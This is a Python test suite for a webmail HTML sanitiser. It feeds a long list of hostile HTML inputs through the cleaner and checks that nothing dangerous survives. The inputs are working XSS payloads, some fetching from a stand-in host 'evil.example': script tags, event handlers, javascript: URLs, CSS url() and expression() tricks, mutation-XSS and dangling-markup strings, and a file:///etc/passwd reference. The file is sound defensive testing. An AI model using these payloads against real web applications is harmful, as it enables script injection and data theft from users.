"""Hostile HTML, one case for each class: what is left can neither run, nor fetch, nor lead to this server, nor name anything."""

import re
from html.parser import HTMLParser

import pytest

from appliance.web.webmail.html_cleaning import ATTRIBUTES, DEPTH, HTML_CHARACTERS, TAGS, clean_html, depth_of, html_text
from appliance.web.webmail.styles import clean_style

EVIL = "https://evil.example/x"
HOSTILE = (
    f"<script>fetch('{EVIL}')</script>", f"<script src={EVIL}></script>", f"<SCRIPT/SRC={EVIL}></SCRIPT>", "<scr<script>ipt>x()</script>",
    "<img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<div onclick='x()' onmouseover=x()>a</div>", "<details ontoggle=x() open>",
    "<a href='javascript:alert(1)'>a</a>", "<a href=' java\nscript:alert(1)'>a</a>", "<a href='data:text/html,<script>x()</script>'>a</a>",
    "<a href='/sign-out'>a</a>", "<a href='//evil.example/'>a</a>", "<a href='mail/../own/'>a</a>", "<a href='vbscript:x'>a</a>",
    f"<style>@import '{EVIL}'; body{{background:url({EVIL})}}</style>", f"<div style='background:url({EVIL})'>a</div>",
    f"<div style='background:\\75 rl({EVIL})'>a</div>", f"<div style='background/**/:u/**/rl({EVIL})'>a</div>",
    f"<div style=\"background-image:image-set('{EVIL}' 1x)\">a</div>", f"<div style='--x:url({EVIL});background:var(--x)'>a</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9;width:100%'>a</div>", "<div style='color:red;behavior:url(#x)'>a</div>",
    "<div style='width:expression(alert(1))'>a</div>", "<div style='content:attr(title)'>a</div>",
    f"<svg><script>x()</script><image href='{EVIL}'/></svg>", f"<svg><use href='{EVIL}#x'/></svg>",
    f"<math><mtext><img src={EVIL} onerror=x()></mtext></math>", "<math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    f"<form action={EVIL}><input name=password><button>ok</button></form>", f"<button formaction={EVIL}>a</button>",
    "<textarea><img src=x onerror=x()></textarea>", "<select><option>a</select>", "<isindex>", "<input type=image src=x>",
    f"<base href={EVIL}>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<link rel=stylesheet href={EVIL}>",
    f"<img srcset='{EVIL} 2x'>", f"<picture><source srcset={EVIL}><img></picture>", f"<video src={EVIL} poster={EVIL}></video>",
    f"<audio src={EVIL}></audio>", f"<video><source src={EVIL}></video>", f"<table background={EVIL}><td background={EVIL}>a</table>",
    f"<body background={EVIL}>", f"<iframe src={EVIL}></iframe>", "<iframe srcdoc='<script>x()</script>'></iframe>",
    f"<frameset><frame src={EVIL}></frameset>", f"<object data={EVIL}></object>", f"<embed src={EVIL}>", f"<applet code={EVIL}></applet>",
    f"<img src='{EVIL}?", f"<a href='{EVIL}?<p>text", f"<img src=\"{EVIL}?\n<p>secret</p>", "<img alt=\"<!--\" src=x><!-- --><script>",
    "<a id=body name=forms>a</a>", "<img name=cookie id=location>", "<form id=x><input name=parentNode></form>", "<p class=top>a</p>",
    "<template><script>x()</script></template>", "<xmp><script>x()</script></xmp>", "<plaintext><script>x()</script>",
    "<![CDATA[<script>x()</script>]]>", "<!--[if IE]><script>x()</script><![endif]-->", "<?xml version='1.0'?><script>x()</script>",
    "<a target=_top href='http://a.example/' ping='http://evil.example/'>a</a>", "<marquee onstart=x()>a</marquee>",
    "<dialog open>a</dialog>",
    "<p autofocus tabindex=1 accesskey=a contenteditable onfocus=x()>a</p>", f"<img src='blob:{EVIL}'>",
    "<img src='data:image/svg+xml,<svg>'>",
    "<img src='file:///etc/passwd'>", "<img src='/own/'>", "<img src='//evil.example/x'>", "<img src=\"https:\\\\evil.example\\x\">",
    "<img lowsrc=x dynsrc=x longdesc=x usemap=#x ismap>", "<p data-facts='{}' data-x=1 is=x slot=x part=x>a</p>",
)  # fmt: skip


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"<{tag}>")
        known = (
            ATTRIBUTES["*"]
            | ATTRIBUTES.get(tag, frozenset())
            | ({"rel", "target"} if tag == "a" else {"loading"} if tag == "img" else set())
        )
        for name, value in attrs:
            if name not in known:
                self.faults.append(f"{tag}.{name}")
            if name == "href" and not re.match("(https?://|mailto:|tel:)", value or ""):
                self.faults.append(f"href {value}")
            if name == "target" and value != "_blank":
                self.faults.append(f"target {value}")
            if name == "src" and not (value or "").startswith("/mail/image/"):
                self.faults.append(f"src {value}")
            if name == "style" and re.search(r"url|expression|position|z-index|var|attr|image|\\|@", value or ""):
                self.faults.append(f"style {value}")


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    for given in (html, f"<div><table><tr><td>{html}</td></tr></table></div>", f"<p>before</p>{html}<p>after</p>"):
        reader = _Reader()
        reader.feed(clean_html(given, lambda name: None, None).html or "")
        reader.close()
        assert not reader.faults, given


def test_images_and_links() -> None:
    html = (
        '<p style="color: red">Hello <img src="cid:a@b"><img src="http://x.example/y.png"> <a href="https://x.example/?a=b&amp;c">x</a></p>'
    )
    found = clean_html(html, lambda name: f"/mail/image/{name}", None)
    assert found.html is not None and found.remote == 1
    assert 'src="/mail/image/a@b"' in found.html and "y.png" not in found.html
    assert 'style="color:red"' in found.html and 'href="https://x.example/?a=b&amp;c"' in found.html and 'target="_blank"' in found.html
    shown = clean_html(html, lambda name: None, lambda address: "/mail/image/REMOTE")
    assert shown.html is not None and shown.html.count("/mail/image/REMOTE") == 1


def test_deep_and_large_html_is_not_parsed() -> None:
    assert clean_html("<div>" * 50_000, lambda name: None, None).html is None
    assert clean_html("<div></b>" * (DEPTH + 1), lambda name: None, None).html is None
    assert clean_html("<b id=1></i>" * (DEPTH + 1), lambda name: None, None).html is None
    assert clean_html("a" * (HTML_CHARACTERS + 1), lambda name: None, None).html is None
    assert depth_of("<p><p><li><br><div><b>x</b></div>" * 5000) == 2
    assert clean_html("<table><tr><td>a<td>b</table>" * 5000, lambda name: None, None).html


@pytest.mark.parametrize(
    ("style", "left"),
    [
        ("color:#fff; background: #000 ; FONT-SIZE: 12px !important", "color:#fff;background:#000;font-size:12px !important"),
        ("color:rgb(1, 2, 3)", "color:rgb(1, 2, 3)"),
        ("background:url(x);color:red", "color:red"),
        ("color:red;}body{color:blue", "color:red"),
        ("font-family:'A B',\"C\"", "font-family:'A B',\"C\""),
        ("position:absolute", ""),
        ("width:calc(1px)", ""),
        ("c\\6flor:red", ""),
    ],
)
def test_styles(style: str, left: str) -> None:
    assert clean_style(style) == left


def test_html_as_text() -> None:
    html = "<style>p{}</style><p>Hello\n  you</p><p>A <b>bold</b> line<br>next &amp; last</p><script>x()</script><ul><li>one<li>two</ul>"
    assert html_text(html) == "Hello you\n\nA bold line\nnext & last\n\none\ntwo\n"
    assert html_text("<div>" * 5000 + "deep") == "deep\n"
